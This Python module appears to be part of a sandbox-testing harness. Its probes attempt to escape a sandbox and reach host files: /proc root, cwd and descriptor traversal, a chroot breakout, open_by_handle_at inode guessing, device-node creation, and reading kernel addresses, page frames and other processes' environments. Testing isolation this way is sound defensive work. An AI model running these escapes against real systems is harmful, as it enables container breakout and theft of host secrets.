"""Attempts on the host's files: device nodes, locks and notifications, ways out of the root, information in /proc."""

import ctypes
import errno
import fcntl
import os
import select
import signal
import stat
import struct
import time

from .answers import AttemptAnswer, absent, attempt, held, refused, worked
from .libc import check

_OFD_SETLK, _SETLEASE, _NOTIFY = 37, 1024, 1026


@attempt
def _change_mode(path: str, mode: int) -> AttemptAnswer:
    os.chmod(path, mode)
    return worked(f"chmod of {path}")


@attempt
def _change_owner(path: str, user: int) -> AttemptAnswer:
    os.chown(path, user, -1)
    return worked(f"chown of {path}")


@attempt
def _change_times(path: str, moment: int) -> AttemptAnswer:
    os.utime(path, (moment, moment))
    return worked(f"utimes of {path}")


@attempt
def _set_attribute(path: str, name: str, value: str) -> AttemptAnswer:
    os.setxattr(path, name, bytes.fromhex(value))
    return worked(f"{name} of {path}")


@attempt
def _lock(path: str, kind: str) -> AttemptAnswer:
    writable = kind == "posix-write"
    descriptor = os.open(path, (os.O_RDWR if writable else os.O_RDONLY) | os.O_NONBLOCK)
    if kind == "flock":
        fcntl.flock(descriptor, fcntl.LOCK_EX | fcntl.LOCK_NB)
    elif kind in ("ofd-read", "posix-write"):
        what = fcntl.F_WRLCK if writable else fcntl.F_RDLCK
        fcntl.fcntl(descriptor, _OFD_SETLK, struct.pack("hhqqi4x", what, 0, 0, 0, 0))
    else:
        fcntl.fcntl(descriptor, _SETLEASE, fcntl.F_RDLCK)
    return held(f"a lock on {path} is held")


@attempt
def _watch(path: str) -> AttemptAnswer:
    """Hold a watch that tells the next request whether someone opened the file."""
    descriptor = check("inotify_init1", os.O_NONBLOCK)
    check("inotify_add_watch", descriptor, ctypes.create_string_buffer(os.fsencode(path)), 0x20)
    pid = os.fork()
    if pid == 0:
        select.select([descriptor], [], [], 10)
        try:
            seen = os.read(descriptor, 4096)
        except OSError:
            seen = b""
        with open("/tmp/attack-seen", "w") as file:
            file.write("seen" if seen else "nothing")
        os._exit(0)
    return held(f"a watch on {path}")


@attempt
def _watched() -> AttemptAnswer:
    deadline = time.time() + 0.25
    while time.time() < deadline:
        if os.path.exists("/tmp/attack-seen"):
            os.unlink("/tmp/attack-seen")
            return worked("the host was seen to open a file")
        time.sleep(0.01)
    return refused("nothing was seen")


@attempt
def _make_node(path: str, kind: str, major: int, minor: int) -> AttemptAnswer:
    mode = (stat.S_IFBLK if kind == "b" else stat.S_IFCHR) | 0o600
    os.mknod(path, mode, os.makedev(major, minor))
    try:
        descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    except OSError as error:
        return refused(f"the node was made, but not opened: {errno.errorcode.get(error.errno or 0)}")
    finally:
        os.unlink(path)
    os.close(descriptor)
    return worked(f"device {kind} {major}:{minor} was made and opened")


@attempt
def _open(path: str, write: bool, read_bytes: int) -> AttemptAnswer:
    """Open a file that a sandbox must not have; reading proves it, nothing is written."""
    descriptor = os.open(path, (os.O_WRONLY if write else os.O_RDONLY) | os.O_NONBLOCK | os.O_NOCTTY)
    kind = os.fstat(descriptor)
    if stat.S_ISCHR(kind.st_mode) and os.major(kind.st_rdev) == 1 and os.minor(kind.st_rdev) == 3:
        return refused(f"{path} is masked by /dev/null")
    if stat.S_ISDIR(kind.st_mode):
        return worked(f"{path} is there") if os.listdir(descriptor) else refused(f"{path} is empty")
    if not write and read_bytes:
        data = os.read(descriptor, read_bytes)
        if not data:
            return refused(f"{path} is empty")
        return worked(f"{path} can be read")
    return worked(f"{path} can be opened")


@attempt
def _follow(folder: str) -> AttemptAnswer:
    """Open the targets of the links in a directory of /proc."""
    why = "it is empty"
    for name in os.listdir(folder):
        try:
            os.close(os.open(os.path.join(folder, name), os.O_RDONLY | os.O_NONBLOCK | os.O_NOCTTY))
            return worked(f"{folder}/{name} can be opened")
        except OSError as error:
            why = errno.errorcode.get(error.errno or 0, "")
    return refused(why)


@attempt
def _addresses() -> AttemptAnswer:
    with open("/proc/kallsyms") as file:
        for line in file:
            if int(line.split()[0], 16):
                return worked("/proc/kallsyms tells the kernel's addresses")
    return refused("every address is zero")


@attempt
def _page_frames() -> AttemptAnswer:
    with open("/proc/self/pagemap", "rb") as file:
        buffer = ctypes.create_string_buffer(b"x" * 4096)
        file.seek(ctypes.addressof(buffer) // 4096 * 8)
        entry = struct.unpack("Q", file.read(8))[0]
    frame = entry & ((1 << 55) - 1)
    return worked("physical addresses of pages are told") if frame else refused("frame numbers are hidden")


def _tokens(path: str, token: str) -> bool:
    try:
        with open(path, "rb") as file:
            return token.encode() in file.read(4096)
    except OSError:
        return False


@attempt
def _secret_by_roots(secret: str, token: str, link: str) -> AttemptAnswer:
    """Read the host's secret file through ``root`` or ``cwd`` of any process."""
    tried = 0
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            for path in (
                f"/proc/{pid}/{link}{secret}",
                f"/proc/{pid}/{link}/../../../../../../../..{secret}",
            ):
                tried += 1
                if _tokens(path, token):
                    return worked(f"the host's file was read through {path}")
    return refused(f"{tried} paths led nowhere") if tried else absent("/proc shows no process")


@attempt
def _secret_by_descriptors(secret: str, token: str) -> AttemptAnswer:
    """Read the host's secret file through the descriptors of any process, directories included."""
    tried = 0
    for pid in os.listdir("/proc"):
        try:
            numbers = os.listdir(f"/proc/{pid}/fd") if pid.isdigit() else []
        except OSError:
            continue
        for number in numbers:
            base = f"/proc/{pid}/fd/{number}"
            for path in (base + secret, base + "/../../../../../../../.." + secret, base):
                tried += 1
                try:
                    if stat.S_ISREG(os.stat(path).st_mode) and _tokens(path, token):
                        return worked(f"the host's file was read through {path}")
                except OSError:
                    continue
    return refused(f"{tried} paths led nowhere")


@attempt
def _secret_by_path(secret: str, token: str, prefix: str) -> AttemptAnswer:
    path = prefix + secret
    return worked(f"the host's file was read at {path}") if _tokens(path, token) else refused(f"{path}: not the file")


@attempt
def _secret_by_chroot(secret: str, token: str) -> AttemptAnswer:
    """Read the host's secret file by the classic escape: a root below the current directory, then upwards."""
    keep = os.open("/", os.O_RDONLY)
    os.makedirs("/tmp/attack-root", exist_ok=True)
    os.chroot("/tmp/attack-root")
    os.fchdir(keep)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return (
        worked("chroot led out of the root")
        if _tokens(secret, token)
        else refused("the root of the sandbox is the end")
    )


@attempt
def _secret_by_link(secret: str, token: str, hard: bool) -> AttemptAnswer:
    path = f"/tmp/attack-link-{os.getpid()}"
    (os.link if hard else os.symlink)(secret, path)
    found = _tokens(path, token)
    os.unlink(path)
    return worked("a link led to the host's file") if found else refused("the link leads to nothing of the host")


@attempt
def _secret_by_handle(secret: str, token: str, source: str) -> AttemptAnswer:
    """Open the root directory of the file system below (inode 2) by its handle, from a bound directory."""
    base = os.open(source, os.O_RDONLY | os.O_DIRECTORY)
    for kind, size, body in (
        (1, 8, struct.pack("II", 2, 0)),
        (0x81, 12, struct.pack("QI", 128, 0)),
        (1, 8, struct.pack("II", 128, 0)),
    ):
        handle = ctypes.create_string_buffer(struct.pack("Ii", size, kind) + body.ljust(size, b"\0"))
        found = check("open_by_handle_at", base, handle, os.O_RDONLY)
        if _tokens(f"/proc/self/fd/{found}{secret}", token):
            return worked("the host's file was read by a file handle")
    return refused("no handle led to the host's root")


@attempt
def _get_handle(path: str) -> AttemptAnswer:
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
    identity = ctypes.c_int(0)
    check("name_to_handle_at", -100, ctypes.create_string_buffer(os.fsencode(path)), handle, ctypes.byref(identity), 0)
    return worked(f"a handle for {path} was given, to be used by open_by_handle_at")


@attempt
def _inherited_descriptors() -> AttemptAnswer:
    """List the descriptors that this program inherited beside its input and output."""
    found = []
    parent = os.getppid()
    for number in os.listdir(f"/proc/{parent}/fd"):
        if int(number) > 2:
            target = os.readlink(f"/proc/{parent}/fd/{number}")
            if not target.startswith(("pipe:", f"/proc/{parent}/fd")):
                found.append(f"{number} -> {target}")
    return worked("a new process has {}".format(", ".join(found))) if found else refused("only standard descriptors")


@attempt
def _write_below(path: str) -> AttemptAnswer:
    """Write to a file or directory of the host."""
    if os.path.isdir(path):
        name = os.path.join(path, f"attack-{os.getpid()}")
        os.close(os.open(name, os.O_CREAT | os.O_WRONLY, 0o600))
        return worked(f"a file was made in {path}", path=name)
    os.close(os.open(path, os.O_WRONLY))
    return worked(f"{path} can be written to")


@attempt
def _path_tells(words: "list[str]") -> AttemptAnswer:
    """Find paths of the host and process ids of the owner in the table of mounts."""
    with open("/proc/self/mountinfo") as file:
        text = file.read()
    found = [word for word in words if word in text]
    return (
        worked("/proc/self/mountinfo names {}".format(", ".join(found)))
        if found
        else refused("no path of the host is named")
    )


@attempt
def _environment_tells(token: str) -> AttemptAnswer:
    for pid in os.listdir("/proc"):
        if pid.isdigit() and _tokens(f"/proc/{pid}/environ", token):
            return worked(f"the owner's environment was read from process {pid}")
    return refused("no environment holds it")


@attempt
def _dnotify(path: str) -> AttemptAnswer:
    descriptor = os.open(path, os.O_RDONLY)
    signal.signal(signal.SIGIO, signal.SIG_IGN)
    fcntl.fcntl(descriptor, _NOTIFY, 0x1)
    return worked(f"told of accesses in {path}")
